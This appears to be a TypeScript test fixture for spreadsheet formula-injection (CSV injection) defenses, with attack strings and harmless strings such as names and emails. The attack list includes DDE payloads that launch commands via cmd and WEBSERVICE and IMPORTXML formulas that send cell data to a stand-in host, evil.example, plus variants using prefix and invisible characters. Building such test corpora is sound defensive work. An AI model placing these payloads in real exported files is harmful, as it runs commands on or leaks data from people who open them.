const COMMANDS = [
  `HYPERLINK("https://evil.example","Click")`,
  `cmd|'/C calc'!A0`,
  "SUM(1+1)*cmd|' /C calc'!A0",
  'WEBSERVICE("https://evil.example/"&A1)',
  'IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
  `DDE("cmd";"/C calc";"__DdeLink_60_870516294")`,
];

/** Texts that some spreadsheet takes for a formula, or for the start of one. */
export const ATTACKS: readonly string[] = [
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠'].flatMap((sign) =>
    COMMANDS.slice(0, 4).map((command) => sign + command),
  ),
  ...['\t', '\r', '\n', '\0', ' ', '\ufeff', '"', "'", '\u00a0', '\u200b', '\u202e', '“'].map(
    (ahead) => `${ahead}=${COMMANDS[0] ?? ''}`,
  ),
  ...COMMANDS.map((command) => `  \t"=${command}`),
  '\tplain',
  '\rplain',
  '\nplain',
  '\0plain',
  '+91 98200 41127',
  '-2+3',
  '@SUM(1,1)',
  '=1+1;=2+2',
  '=',
  '-',
];

export const HARMLESS: readonly string[] = [
  'Kite Labs',
  'a=b',
  'x@y.example',
  '1-2',
  "O'Brien",
  '"quoted"',
  '佐藤 美咲',
  'ليلى الحداد',
  '👩🏽‍🚀 Zoë',
  ' spaces ',
  '',
];
